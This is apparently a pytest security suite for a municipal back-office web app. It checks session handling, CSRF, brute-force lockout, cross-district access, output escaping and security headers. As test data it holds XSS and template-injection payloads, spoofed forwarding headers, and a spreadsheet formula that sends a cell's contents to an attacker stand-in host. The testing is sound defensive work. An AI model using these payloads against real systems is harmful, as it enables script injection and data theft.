"""The back-office under attack (issue 15, part 4): every route the app serves, read from the app itself, tried
without a session, with a forged cookie and with a cookie kept from before signing out; POSTs with the CSRF
token of another or an older session; session fixation; the sign-in back-off whatever the spelling or the
address claimed; another district's things by id on every route that takes one; hostile text typed by
residents (and reflected from the address) shown escaped; the security headers on every page and error page,
and no inline script or handler in any page that the CSP would block.

test_admin_routes.py already tries every route with every role, and test_admin_auth.py the sign-in, the
lockout, a missing CSRF token and the inactivity limit: this file adds what they do not. Each test records
what it tried (tests.proof) for docs/reliability.md."""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import sqlite3
import warnings
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import httpx
import itsdangerous
import pytest
from sqlmodel import select
from starlette.exceptions import StarletteDeprecationWarning
from starlette.responses import Response
from starlette.routing import Route

from relai_bot.clock import FrozenClock
from relai_bot.config import load_settings
from relai_bot.services import accounts, callbacks, login_throttle
from relai_bot.store.models import (
    Absence,
    Adviser,
    Appointment,
    Broadcast,
    CallbackRequest,
    Opening,
    Resident,
    StaffSession,
    Venue,
    id_of,
)
from relai_bot.web.admin import routes as admin_routes
from relai_bot.web.admin import spreadsheet
from relai_bot.web.admin.app import COOKIE, admin_app
from relai_bot.web.admin.guard import EVERYONE, MAX_ID, AdminRoute, Page, SecurityHeaders
from relai_bot.web.admin.secret import session_secret
from relai_bot.web.app import create_app
from relai_bot.wiring import Runtime, build_runtime
from tests.agenda_support import appointment_at, local
from tests.conftest import START, make_runtime
from tests.proof import record
from tests.web.admin_support import PASSWORD, Staff, admin_browser, make_account
from tests.web.residents_support import add_resident, ask_callback

pytestmark = pytest.mark.proof  # its figures go to docs/reliability.md (`make proof`)

with warnings.catch_warnings():
    warnings.simplefilter("ignore", StarletteDeprecationWarning)
    from starlette.testclient import TestClient

SUITE = "admin_attacks"
EMAILS = {"admin": "admin@mairie.re", "staff": "agent@mairie.re", "adviser": "conseil@mairie.re"}
# What a hostile resident (or anyone who can put text before staff) types: markup, an attribute break-out,
# a template expression
PAYLOADS = ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "{{7*7}}")
HOSTILE = " ".join(PAYLOADS)
# Each one as an autoescaping page shows it
ESCAPED = ("&lt;script&gt;alert(1)&lt;/script&gt;", "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;", "{{7*7}}")
# Only the other district's things carry these: a page that shows one has leaked
OTHER_NAME, OTHER_TEXT, OTHER_REASON = "Hors-Quartier", "Forum réservé au centre-ville", "Congé du centre-ville"
PARAM = re.compile(r"\{([a-z_]+)(?::int)?\}")
# The route parameters that name something of a district (the staff member reaches their districts' only),
# and those that do not, with why: a new parameter must be put in one or the other
SCOPED = {
    "resident_id",
    "callback_id",
    "appointment_id",
    "broadcast_id",
    "opening_id",
    "slot_id",
    "absence_id",
    "venue_id",
}
NOT_SCOPED = {
    "account_id": "accounts: administrators only (test_admin_routes)",
    "scheme_id": "the catalogue of schemes is the commune's, read by every role",
    "district_id": "the list of districts is the commune's, read by every role",
    "district_code": "every district's poster may be printed by any staff member",
}
# A form that would do something on every POST route, were the request let through
ACTING_FORM = {
    "status": "attended",
    "note": "écrit par un autre quartier",
    "asked": "oui",
    "name": "Renommé",
    "code": "renomme",
    "town": "La Possession",
    "text": "Diffusion détournée",
    "reason": "détourné",
    "email": "intrus@mairie.re",
    "role": "admin",
}
INTRUDER = "intrus@mairie.re"


def served_routes(runtime: Runtime) -> list[tuple[str, str]]:
    """(path under /admin, method) of every route the back-office app serves, HEAD included: read from the
    app as built, not from a list written here."""
    app = admin_app(runtime, "only-to-read-the-routes-0123456789abcdef")
    assert isinstance(app, SecurityHeaders)
    found = [
        (route.path, method)
        for route in app.app.routes  # type: ignore[attr-defined]
        if isinstance(route, Route)
        for method in sorted(route.methods or ())
    ]
    assert len(found) > 80, found  # the app was read, not an empty table
    return found


def concrete(path: str, ids: Mapping[str, object]) -> str:
    return "/admin" + PARAM.sub(lambda m: str(ids[m.group(1)]), path)


def params(path: str) -> set[str]:
    return set(PARAM.findall(path))


def call(browser: Staff, method: str, path: str, form: Mapping[str, object] | None = None) -> httpx.Response:
    if method == "POST":
        return browser.post(path, dict(form or {}))
    return browser.client.request(method, path, follow_redirects=False)


def signed_cookie(data: Mapping[str, object], secret: str) -> str:
    """A session cookie as Starlette's SessionMiddleware writes it, signed with `secret`."""
    payload = base64.b64encode(json.dumps(dict(data)).encode())
    return itsdangerous.TimestampSigner(secret).sign(payload).decode()


def use_cookie(browser: Staff, value: str | None) -> None:
    """The browser's session cookie from now on: `value`, where the server would have put it."""
    browser.client.cookies.clear()
    if value is not None:
        browser.client.cookies.set(COOKIE, value, domain="testserver.local", path="/admin")


@dataclass
class World:
    """Accounts of each role; residents and their things in the staff member's district (Saint-Laurent:
    `mine`) and in another one (centre-ville: `other`). The resident of Saint-Laurent is named with
    HOSTILE; their call-back note, appointment note and an absence's reason hold it too."""

    admin: accounts.Account
    mine: dict[str, int | str] = field(default_factory=dict)
    other: dict[str, int | str] = field(default_factory=dict)


def build_world(runtime: Runtime) -> World:
    admin = make_account(runtime, EMAILS["admin"], "admin")
    staff = make_account(runtime, EMAILS["staff"], "staff", districts=["saint-laurent"])
    make_account(runtime, EMAILS["adviser"], "adviser")
    target = make_account(runtime, "cible@mairie.re", "staff", districts=["pichette"])
    found = World(admin)
    shared: dict[str, int | str] = {"account_id": target.id, "district_code": "saint-laurent"}
    mine = add_resident(runtime, "+262692000101", district="saint-laurent", name=HOSTILE)
    other = add_resident(runtime, "+262692000202", district="centre-ville", name=OTHER_NAME)
    mine_appointment = appointment_at(
        runtime, mine, local(2026, 12, 1, 15, 0), adviser="techer", venue="centre-affaires-saint-laurent"
    )
    appointment_at(runtime, mine, local(2026, 11, 30, 9, 0), adviser="techer", venue="centre-affaires-saint-laurent")
    other_appointment = appointment_at(runtime, other, local(2026, 12, 1, 16, 0), adviser="fontaine")
    now = runtime.clock.now()
    with runtime.db.transaction() as session:
        for key, resident, appointment, adviser, venue in (
            ("mine", mine, mine_appointment, "techer", "centre-affaires-saint-laurent"),
            ("other", other, other_appointment, "fontaine", "hotel-de-ville"),
        ):
            ids = found.mine if key == "mine" else found.other
            booked = session.get(Appointment, appointment)
            assert booked is not None
            adviser_id = session.exec(select(Adviser.id).where(Adviser.code == adviser)).one()
            venue_id = session.exec(select(Venue.id).where(Venue.code == venue)).one()
            opening = session.exec(
                select(Opening.id).where(Opening.adviser_id == adviser_id, Opening.venue_id == venue_id)
            ).first()
            assert opening is not None, (adviser, venue)
            absence = Absence(
                adviser_id=adviser_id,
                starts_at=datetime(2027, 3, 1, 4, 0, tzinfo=UTC),
                ends_at=datetime(2027, 3, 1, 12, 0, tzinfo=UTC),
                reason=HOSTILE if key == "mine" else OTHER_REASON,
                created_at=now,
            )
            broadcast = Broadcast(
                text=OTHER_TEXT if key == "other" else "Forum de Saint-Laurent",
                districts=["centre-ville" if key == "other" else "saint-laurent"],
                created_by="admin",
                created_at=now,
                author_id=admin.id,
            )
            session.add_all([absence, broadcast])
            session.flush()
            if key == "mine":
                booked.adviser_note = HOSTILE
                session.add(booked)
            ids.update(
                shared,
                resident_id=resident,
                appointment_id=appointment,
                slot_id=booked.slot_id,
                opening_id=opening,
                absence_id=id_of(absence),
                broadcast_id=id_of(broadcast),
                venue_id=venue_id,
                scheme_id=1,
                district_id=1,
            )
    for key, resident in (("mine", mine), ("other", other)):
        (found.mine if key == "mine" else found.other)["callback_id"] = ask_callback(runtime, resident)
    handled = ask_callback(runtime, mine)
    with runtime.db.transaction() as session:
        callbacks.mark_done(session, found.admin, handled, now=now, note=HOSTILE)
    assert staff.district_codes == ("saint-laurent",)
    return found


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, World]:
    """The database with the world in it, made once for the module (migrating, seeding and hashing the
    passwords take seconds): each test works on its own copy."""
    path = tmp_path_factory.mktemp("admin-attacks") / "relai.sqlite3"
    built = make_runtime(f"sqlite:///{path}", FrozenClock(START))
    try:
        return path, build_world(built)
    finally:
        built.close()


@pytest.fixture
def runtime(template: tuple[Path, World], tmp_path: Path, clock: FrozenClock) -> Iterator[Runtime]:
    """This module's runtime (in place of conftest's): a copy of the template database, the frozen clock."""
    copy = tmp_path / "relai.sqlite3"
    with sqlite3.connect(template[0]) as source, sqlite3.connect(copy) as target:
        source.backup(target)
    built = build_runtime(load_settings(database_url=f"sqlite:///{copy}"), clock, strict=True)
    yield built
    built.close()


@pytest.fixture
def world(template: tuple[Path, World]) -> World:
    return template[1]


def snapshot(runtime: Runtime, ids: Mapping[str, int | str]) -> dict[str, Any]:
    """What an attack on these things (and ACTING_FORM's new account) would change."""
    with runtime.db.transaction() as session:
        resident = session.get(Resident, ids["resident_id"])
        appointment = session.get(Appointment, ids["appointment_id"])
        callback = session.get(CallbackRequest, ids["callback_id"])
        broadcast = session.get(Broadcast, ids["broadcast_id"])
        venue = session.get(Venue, ids["venue_id"])
        return {
            "resident": resident.display_name if resident else None,
            "appointment": (appointment.status, appointment.adviser_note) if appointment else None,
            "callback": (callback.status, callback.handled_note) if callback else None,
            "broadcast": broadcast.status if broadcast else None,
            "venue": (venue.name, venue.code) if venue else None,
            "opening": session.get(Opening, ids["opening_id"]) is not None,
            "absence": session.get(Absence, ids["absence_id"]) is not None,
            "intruder": accounts.find_account(session, INTRUDER) is not None,
        }


# -- Every route without a valid session ------------------------------------------------------------------


def test_no_route_opens_without_a_live_session(runtime: Runtime, world: World) -> None:
    """Every route and method the app serves, with no cookie, with a cookie forged under another key, with a
    cookie signed with the right key but naming no open session (as one from before this check), and with
    the very cookie of a session that has since signed out: the sign-in page (or the open pages), never a
    page of data, never a 500."""
    served = served_routes(runtime)
    open_paths = {route.path for route in admin_routes.ROUTES if route.roles is None}
    now = runtime.clock.now().isoformat()
    claims = {"account": world.admin.id, "seen": now, "csrf": "x" * 43, "password": world.admin.password_stamp}
    before = snapshot(runtime, world.mine)
    with admin_browser(runtime) as browser:
        assert browser.log_in(EMAILS["admin"]).status_code == 303
        assert browser.get("/admin/accounts").status_code == 200
        signed_out = browser.client.cookies[COOKIE]
        assert browser.post("/admin/logout").status_code == 303
        cookies = {
            "none": None,
            "forged": signed_cookie(claims | {"session": "guessed"}, "not-the-server-key-0123456789abcdef"),
            "no open session": signed_cookie(claims, session_secret(runtime.settings)),
            "signed out": signed_out,
        }
        refused = 0
        failures: list[str] = []
        for kind, cookie in cookies.items():
            for path, method in served:
                target = concrete(path, world.mine)
                use_cookie(browser, cookie)
                form = {"csrf": "x" * 43, **ACTING_FORM} if method == "POST" else None
                response = (
                    browser.client.post(target, data=form, follow_redirects=False)
                    if method == "POST"
                    else browser.client.request(method, target, follow_redirects=False)
                )
                location = response.headers.get("location", "")
                if path in open_paths:
                    ok = response.status_code in (200, 303, 400, 403) and not location.startswith("/admin/login?")
                else:
                    ok = response.status_code == 303 and location.startswith("/admin/login?next=")
                    refused += ok
                if not ok or HOSTILE in response.text or ESCAPED[0] in response.text:
                    failures.append(f"{kind}: {method} {target} -> {response.status_code} {location}")
        assert not failures, failures
    assert refused == len(cookies) * sum(1 for path, _ in served if path not in open_paths)
    assert snapshot(runtime, world.mine) == before
    record(SUITE, routes=len(served), refused=refused)


def test_an_id_too_long_for_the_database_is_not_found(runtime: Runtime, world: World) -> None:
    """Every route that takes an id, given one past the database's integer: the 404 page, not a 500."""
    served = [(path, method) for path, method in served_routes(runtime) if PARAM.search(path)]
    ids = {name: MAX_ID + 1 for name in SCOPED | set(NOT_SCOPED)} | {"district_code": "x" * 300}
    with admin_browser(runtime) as browser:
        assert browser.log_in(EMAILS["admin"]).status_code == 303
        answers = {(method, concrete(path, ids)): call(browser, method, concrete(path, ids)) for path, method in served}
    failures = {key: r.status_code for key, r in answers.items() if r.status_code != 404}
    assert not failures, failures
    record(SUITE, refused=len(answers), oversized_ids=len(answers))


# -- CSRF tokens of other sessions --------------------------------------------------------------------------


def test_every_post_refuses_the_csrf_token_of_another_or_an_older_session(runtime: Runtime, world: World) -> None:
    """Each POST route, signed in, with the token the same browser had before signing in, the token of its
    session before it signed out and in again, the token of another person's live session, its own token
    altered by one character, and one with non-ASCII characters: refused (403, never a 500), nothing done.
    The right token in the address or a header instead of the form is refused too."""
    posts = [path for path, method in served_routes(runtime) if method == "POST"]
    before = snapshot(runtime, world.mine)
    with admin_browser(runtime) as browser, admin_browser(runtime) as colleague:
        browser.get("/admin/login")
        before_sign_in = browser.csrf
        assert browser.log_in(EMAILS["admin"]).status_code == 303
        browser.get("/admin/")
        older = browser.csrf
        assert browser.post("/admin/logout").status_code == 303
        assert browser.log_in(EMAILS["admin"]).status_code == 303
        browser.get("/admin/")
        live = browser.csrf
        assert colleague.log_in(EMAILS["staff"]).status_code == 303
        colleague.get("/admin/")
        tokens = {"before sign-in": before_sign_in, "older session": older, "another's session": colleague.csrf}
        assert len({*tokens.values(), live}) == 4, "each session has its own token"
        tokens |= {"not ASCII": "é" * 43, "the live one, altered": live[:-1] + ("A" if live[-1] != "A" else "B")}
        answers: dict[tuple[str, str], httpx.Response] = {}
        for kind, token in tokens.items():
            for path in posts:
                target = concrete(path, world.mine)
                answers[kind, target] = browser.post(target, {"csrf": token, **ACTING_FORM}, csrf=False)
        for where in ("query", "header"):
            for path in posts:
                target = concrete(path, world.mine)
                response = browser.client.post(
                    target + (f"?csrf={live}" if where == "query" else ""),
                    data=ACTING_FORM,
                    headers={"X-CSRF-Token": live} if where == "header" else {},
                    follow_redirects=False,
                )
                answers[where, target] = response
        assert browser.get("/admin/").status_code == 200, "still signed in: the refusals ended nothing"
    failures = {
        key: r.status_code for key, r in answers.items() if r.status_code != 403 or "Formulaire expiré" not in r.text
    }
    assert not failures, failures
    assert snapshot(runtime, world.mine) == before
    with runtime.db.transaction() as session:
        assert accounts.find_account(session, EMAILS["admin"]) is not None
    record(SUITE, refused=len(answers), csrf_refusals=len(answers))


# -- Session fixation and the end of a session --------------------------------------------------------------


def test_signing_in_gives_a_new_session_and_the_planted_one_stays_anonymous(runtime: Runtime, world: World) -> None:
    """An attacker opens the sign-in page, plants that cookie in a colleague's browser, and waits: the
    colleague's sign-in writes a new cookie with a new token, and the planted one opens nothing."""
    with admin_browser(runtime) as attacker, admin_browser(runtime) as victim:
        attacker.get("/admin/login")
        planted, planted_token = attacker.client.cookies[COOKIE], attacker.csrf
        use_cookie(victim, planted)
        victim.csrf = planted_token
        signed_in = victim.post("/admin/login", {"email": EMAILS["admin"], "password": PASSWORD})
        assert signed_in.status_code == 303
        assert victim.get("/admin/accounts").status_code == 200
        after = victim.client.cookies[COOKIE]
        assert after != planted and victim.csrf != planted_token
        use_cookie(attacker, planted)
        assert attacker.get("/admin/accounts").headers["location"] == "/admin/login?next=/admin/accounts"
        refused = attacker.post("/admin/accounts/new", {"csrf": planted_token, **ACTING_FORM})
        assert refused.status_code in (303, 403)
    with runtime.db.transaction() as session:
        assert accounts.find_account(session, INTRUDER) is None
    record(SUITE, refused=2)


def test_a_cookie_kept_from_before_signing_out_opens_nothing(runtime: Runtime, world: World) -> None:
    """Two sign-ins, two sessions; signing out of one ends it for good, even for a copy of its cookie (the
    cookie is only signed: the server remembers the open sessions), and leaves the other open."""
    with admin_browser(runtime) as desk, admin_browser(runtime) as phone:
        desk.log_in(EMAILS["admin"])
        phone.log_in(EMAILS["admin"])
        assert desk.get("/admin/").status_code == 200 and phone.get("/admin/").status_code == 200
        copy, token = desk.client.cookies[COOKIE], desk.csrf
        assert copy != phone.client.cookies[COOKIE]
        assert desk.post("/admin/logout").status_code == 303
        use_cookie(desk, copy)
        assert desk.get("/admin/").headers["location"] == "/admin/login?next=/admin/"
        use_cookie(desk, copy)
        refused = desk.post("/admin/accounts/new", {"csrf": token, **ACTING_FORM}, csrf=False)
        assert refused.headers.get("location") == "/admin/login?next=/admin/"
        assert phone.get("/admin/").status_code == 200, "the other session goes on"
    with runtime.db.transaction() as session:
        assert accounts.find_account(session, INTRUDER) is None
    record(SUITE, refused=2)


def test_a_new_password_gives_the_session_a_new_key(runtime: Runtime, world: World) -> None:
    """Changing one's password keeps one signed in, under a new session: the cookie from before the change
    opens nothing any more."""
    new = "a long new password"
    with runtime.db.transaction() as session:
        staff = accounts.find_account(session, EMAILS["staff"])
    assert staff is not None
    with admin_browser(runtime) as browser:
        browser.log_in(EMAILS["staff"])
        browser.get("/admin/password")
        before = browser.client.cookies[COOKIE]
        form = {"current_password": PASSWORD, "new_password": new, "new_password_again": new}
        assert browser.follow(browser.post("/admin/password", form)).status_code == 200
        after = browser.client.cookies[COOKIE]
        assert browser.get("/admin/").status_code == 200
        use_cookie(browser, before)
        assert browser.get("/admin/").status_code == 303
        use_cookie(browser, after)
        assert browser.get("/admin/").status_code == 200
    with runtime.db.transaction() as session:
        open_ones = session.exec(select(StaffSession).where(StaffSession.staff_user_id == staff.id)).all()
    assert len(open_ones) == 1, "the change closed the session it replaced"
    record(SUITE, refused=1)


# -- Brute force ---------------------------------------------------------------------------------------------


def test_the_lock_holds_whatever_the_spelling_of_the_address(runtime: Runtime, world: World) -> None:
    """Failures under the same address written in capitals or with spaces count for one account."""
    spellings = [" admin@mairie.re", "ADMIN@MAIRIE.RE", "Admin@Mairie.Re ", "admin@mairie.re", "\tadmin@MAIRIE.re"]
    assert len(spellings) == login_throttle.FREE_FAILURES
    with admin_browser(runtime) as browser:
        for spelling in spellings:
            assert browser.log_in(spelling, "wrong").status_code == 400, spelling
        assert browser.log_in("  AdMiN@mairie.RE", "wrong").status_code == 429  # one more: the wait begins
        assert browser.log_in("AdMiN@mairie.re", PASSWORD).status_code == 429
    with admin_browser(runtime) as elsewhere:  # a new browser: the lock is the account's, not the cookie's
        assert elsewhere.log_in(EMAILS["admin"]).status_code == 429
    record(SUITE, refused=3, brute_force_attempts=len(spellings) + 3)


def test_one_address_trying_many_accounts_waits_and_a_forged_header_does_not_help(
    runtime: Runtime, world: World
) -> None:
    """One client address trying many logins (none locked by itself) is made to wait, right password
    included; an X-Forwarded-For header it writes changes nothing (the app trusts only the proxy's, see
    test_proxy.py); another address signs in."""
    tries = login_throttle.FREE_FAILURES_PER_CLIENT
    with admin_browser(runtime) as browser:
        browser.get("/admin/login")
        for n in range(tries):
            form = {"email": f"inconnu{n}@mairie.re", "password": "wrong"}
            response = browser.client.post(
                "/admin/login",
                data={**form, "csrf": browser.csrf},
                headers={"X-Forwarded-For": f"198.51.100.{n}"},
                follow_redirects=False,
            )
            assert response.status_code == 400, n
            browser.csrf = re.search(r'name="csrf" value="([^"]+)"', response.text).group(1)  # type: ignore[union-attr]
        assert browser.log_in("personne@mairie.re", "wrong").status_code == 429
        for claimed in ("10.0.0.2", "127.0.0.1"):
            browser.get("/admin/login")
            response = browser.client.post(
                "/admin/login",
                data={"email": EMAILS["admin"], "password": PASSWORD, "csrf": browser.csrf},
                headers={"X-Forwarded-For": claimed, "X-Real-IP": claimed},
                follow_redirects=False,
            )
            assert response.status_code == 429, claimed
    app = create_app(runtime, with_scheduler=False)
    with TestClient(app, client=("10.0.0.2", 50000)) as client:
        other = Staff(client)
        assert other.log_in(EMAILS["admin"]).status_code == 303
    record(SUITE, refused=3, brute_force_attempts=tries + 4)


# -- Another district's things, by id -----------------------------------------------------------------------


def test_every_route_that_takes_an_id_keeps_other_districts_out(runtime: Runtime, world: World) -> None:
    """A staff member of Saint-Laurent, on every route whose path names a district's thing, given the id of
    the centre-ville's: a refusal (not found, refused, or back to the list), nothing of it shown, nothing
    changed. The same routes with Saint-Laurent's ids open, so the refusal is the district's doing."""
    served = served_routes(runtime)
    named = {name for path, _ in served for name in params(path)}
    assert named <= SCOPED | set(NOT_SCOPED), f"classify the new route parameters: {named - SCOPED - set(NOT_SCOPED)}"
    scoped = [(path, method) for path, method in served if params(path) & SCOPED]
    before = snapshot(runtime, world.other)
    leaks = (OTHER_NAME, OTHER_TEXT, OTHER_REASON, "Fontaine")
    failures: list[str] = []
    with admin_browser(runtime) as browser:
        assert browser.log_in(EMAILS["staff"]).status_code == 303
        for path, method in scoped:
            target = concrete(path, world.other)
            response = call(browser, method, target, ACTING_FORM)
            leaked = any(leak in response.text for leak in leaks)
            if path == "/venues/{venue_id:int}" and method != "POST":
                # The catalogue of venues is read by everyone: the page shows, without its form
                ok = response.status_code == 200 and f'action="{target}"' not in response.text
            elif path.endswith("/progress"):  # polled by the page: a fragment that says the broadcast is gone
                ok = response.status_code == 200 and not leaked
            else:
                ok = response.status_code in (303, 403, 404) and not leaked
                ok = ok and response.headers.get("location", "/admin/") in ("/admin/", "/admin/broadcasts")
            if not ok:
                failures.append(f"{method} {target} -> {response.status_code}: {response.text[:200]}")
        own = {
            f"/admin/residents/{world.mine['resident_id']}": ESCAPED[0],
            f"/admin/appointments/{world.mine['appointment_id']}": ESCAPED[0],
            f"/admin/slots/{world.mine['slot_id']}": ESCAPED[0],
            f"/admin/broadcasts/{world.mine['broadcast_id']}": "Forum de Saint-Laurent",
            f"/admin/openings/{world.mine['opening_id']}/edit": "M. Técher",
        }
        for path, shown in own.items():
            response = browser.get(path)
            if response.status_code != 200 or shown not in response.text:
                failures.append(f"own district: {path} -> {response.status_code}")
    assert not failures, failures
    assert snapshot(runtime, world.other) == before
    record(SUITE, refused=len(scoped), district_refusals=len(scoped))


# -- Hostile text, shown escaped ----------------------------------------------------------------------------


class Markup(HTMLParser):
    """What the CSP would block, or an injection would add: scripts written in the page, on* handlers,
    javascript: addresses, inline styles; and the elements a payload could have made."""

    def __init__(self) -> None:
        super().__init__()
        self.blocked: list[str] = []
        self.tags: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        values = dict(attrs)
        if tag == "script":
            self._in_script = True
            if not values.get("src"):
                self.blocked.append("<script> without src")
        if tag == "style":
            self.blocked.append("<style>")
        if tag == "img" and values.get("src") == "x":
            self.blocked.append("the payload's <img>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "hx-on") or name.startswith("hx-on"):
                self.blocked.append(f"{tag} {name}=")
            if name in ("href", "src", "action", "formaction") and (value or "").strip().lower().startswith(
                "javascript:"
            ):
                self.blocked.append(f"{tag} {name}=javascript:")

    def handle_endtag(self, tag: str) -> None:
        self._in_script = self._in_script and tag != "script"

    def handle_data(self, data: str) -> None:
        if self._in_script and data.strip():
            self.blocked.append("inline script")


def markup(html: str) -> Markup:
    parser = Markup()
    parser.feed(html)
    parser.close()
    return parser


def assert_escaped(page: str, where: str, *, shown: bool = True) -> None:
    """None of the payloads as markup; each shown as text when the page shows the hostile text."""
    for payload in PAYLOADS[:2]:
        assert payload not in page, (where, payload)
    parsed = markup(page)
    assert not parsed.blocked, (where, parsed.blocked)
    assert parsed.tags.count("script") <= 1, where  # htmx, from /admin/static
    if shown:
        assert all(text in page for text in ESCAPED), (where, [text for text in ESCAPED if text not in page])


@pytest.mark.parametrize("role", ["admin", "staff"])
def test_text_typed_by_residents_is_shown_escaped_everywhere(runtime: Runtime, world: World, role: str) -> None:
    """The resident's name, the call-back note, the appointment note and an absence's reason, each holding
    markup and a template expression, on every page that shows one; the same typed in the simulator (and
    echoed by the bot) and in a broadcast's preview: text, never markup."""
    mine = world.mine
    pages = [
        "/admin/agenda",
        "/admin/agenda?vue=semaine",
        "/admin/agenda/pending",
        f"/admin/appointments/{mine['appointment_id']}",
        "/admin/residents",
        f"/admin/residents?name={HOSTILE[:20]}",
        f"/admin/residents/{mine['resident_id']}",
        f"/admin/residents/{mine['resident_id']}/erase",
        "/admin/callbacks",
        "/admin/callbacks?status=done",
        f"/admin/slots/{mine['slot_id']}",
        "/admin/absences",
    ]
    checked = 0
    with admin_browser(runtime) as browser:
        assert browser.log_in(EMAILS[role]).status_code == 303
        for path in pages:
            response = browser.get(path)
            assert response.status_code == 200, (path, response.status_code)
            if path == "/admin/absences" and role == "staff":
                assert_escaped(response.text, path, shown=False)  # Techer's absence: shown if the list reaches it
            else:
                assert_escaped(response.text, path)
            checked += 1
        typed = {"text": HOSTILE, "vue": "telegram"}
        for htmx in ({}, {"HX-Request": "true"}):  # the whole page, or the fragment htmx adds to it
            response = browser.client.post(
                "/admin/simulator/say", data={**typed, "csrf": browser.csrf}, headers=htmx, follow_redirects=False
            )
            assert response.status_code == 200, response.status_code
            assert_escaped(response.text, f"simulator {htmx}")
            checked += 1
        if role == "staff":  # a broadcast's text as the staff member types it: refused ({{7*7}}), or previewed
            draft = {"districts": "saint-laurent", "when": "now", "step": "preview", "csrf": browser.csrf}
            refused = browser.client.post("/admin/broadcasts/new", data={**draft, "text": HOSTILE})
            assert refused.status_code == 400 and "Seuls des champs simples" in refused.text
            assert_escaped(refused.text, "broadcast refused")
            markup_only = " ".join(PAYLOADS[:2])
            for path in ("/admin/broadcasts/preview", "/admin/broadcasts/new"):
                previewed = browser.client.post(path, data={**draft, "text": markup_only}, follow_redirects=False)
                assert previewed.status_code == 200, (path, previewed.status_code)
                assert_escaped(previewed.text, path, shown=False)
                assert ESCAPED[0] in previewed.text and ESCAPED[1] in previewed.text, path
            checked += 3
        exported = browser.get("/admin/agenda.csv")
        assert exported.headers["content-type"].startswith("text/csv")
        assert HOSTILE in {row[6] for row in csv.reader(io.StringIO(exported.text))}
        assert exported.headers["x-content-type-options"] == "nosniff"  # never read as HTML
    record(SUITE, escaped_pages=checked)


def test_a_name_written_as_a_formula_stays_text_in_the_spreadsheets(runtime: Runtime, world: World) -> None:
    """A resident named like a spreadsheet formula: the agenda's CSV holds it as text (an apostrophe
    before it), so LibreOffice or Excel show it instead of running it."""
    formula = '=HYPERLINK("http://evil.example/?"&A1;"Voir")'
    with runtime.db.transaction() as session:
        resident = session.get(Resident, world.mine["resident_id"])
        assert resident is not None
        resident.display_name = formula
        session.add(resident)
    with admin_browser(runtime) as browser:
        assert browser.log_in(EMAILS["staff"]).status_code == 303
        exported = browser.get("/admin/agenda.csv")
    names = [row[6] for row in csv.reader(io.StringIO(exported.text))][1:]
    assert names and all(name == "'" + formula for name in names), names
    assert [spreadsheet.cell(text) for text in ("+1", "-1", "@SUM(A1)", "\tx", "\rx")] == [
        "'+1",
        "'-1",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
    ]
    assert [spreadsheet.cell(value) for value in (-1, "Marie", "2026-12-01", "")] == [-1, "Marie", "2026-12-01", ""]
    record(SUITE, refused=1, escaped_pages=1)


def test_text_from_the_address_is_never_reflected_as_markup(runtime: Runtime, world: World) -> None:
    """Every GET route, with hostile values in the query parameters the pages read (search, day, status,
    next...), and the sign-in form posted with a hostile address: the values come back as text at most."""
    names = ("name", "phone", "district", "next", "day", "vue", "status", "table", "adviser", "venue", "page", "q")
    query = "&".join(f"{name}={httpx.URL('', params={'v': HOSTILE}).query.decode()[2:]}" for name in names)
    gets = [(path, method) for path, method in served_routes(runtime) if method == "GET"]
    checked = 0
    with admin_browser(runtime) as anonymous:
        page = anonymous.get(f"/admin/login?next=/admin/{HOSTILE}")
        assert_escaped(page.text, "login next", shown=False)
        answer = anonymous.post("/admin/login", {"email": HOSTILE, "password": "x"})
        assert answer.status_code == 400
        assert_escaped(answer.text, "login email", shown=False)
        assert ESCAPED[1] in answer.text  # the address typed is kept, escaped
        checked += 2
    with admin_browser(runtime) as browser:
        assert browser.log_in(EMAILS["admin"]).status_code == 303
        for path, _ in gets:
            if path == "/logout":
                continue
            target = concrete(path, world.mine) + "?" + query
            response = browser.get(target)
            assert response.status_code < 500, (target, response.status_code)
            if response.headers.get("content-type", "").startswith("text/html"):
                assert_escaped(response.text, target, shown=False)
            checked += 1
    record(SUITE, escaped_pages=checked, reflected=checked)


# -- Security headers -----------------------------------------------------------------------------------------


def assert_secured(response: httpx.Response, where: str) -> None:
    """The headers a back-office answer carries, and (HTML) nothing in it that they would block."""
    headers = response.headers
    policy = {
        part.split()[0]: part.split()[1:]
        for part in headers.get("content-security-policy", "").split(";")
        if part.strip()
    }
    scripts = policy.get("script-src", policy.get("default-src"))
    assert scripts is not None and "'unsafe-inline'" not in scripts and "'unsafe-eval'" not in scripts, (where, policy)
    assert policy.get("frame-ancestors") == ["'none'"] or headers.get("x-frame-options") == "DENY", (where, policy)
    assert policy.get("object-src", policy.get("default-src")) in (["'self'"], ["'none'"]), where
    assert headers.get("x-content-type-options") == "nosniff", where
    assert headers.get("referrer-policy") in ("same-origin", "no-referrer", "strict-origin"), where
    if not where.startswith("/admin/static/"):
        assert headers.get("cache-control") == "no-store", where
    if headers.get("content-type", "").startswith("text/html") and response.text:
        parsed = markup(response.text)
        assert not parsed.blocked, (where, parsed.blocked)


def test_every_page_and_error_page_carries_the_security_headers(
    runtime: Runtime, world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every GET route as an administrator (with ids that exist), the open pages, the static files, and the
    error pages: not found (an address, an id), a role refused, a form expired, a method not allowed, and an
    unexpected error (500)."""

    def broken(page: Page) -> Response:
        raise RuntimeError("a page that fails")

    boom = AdminRoute("/en-panne", broken, EVERYONE)
    monkeypatch.setattr(admin_routes, "ROUTES", (*admin_routes.ROUTES, boom))
    gets = [(path, method) for path, method in served_routes(runtime) if method == "GET" and path != "/en-panne"]
    checked = 0
    seen: dict[int, int] = {}
    with admin_browser(runtime) as anonymous:
        for path in ("/admin/login", "/admin/accessibilite", "/admin/", "/admin/nulle-part"):
            response = anonymous.get(path)
            assert_secured(response, path)
            checked += 1
    with admin_browser(runtime) as staff:
        staff.log_in(EMAILS["staff"])
        for path, status in (("/admin/accounts", 403), ("/admin/residents/999999", 404)):
            response = staff.get(path)
            assert response.status_code == status, path
            assert_secured(response, path)
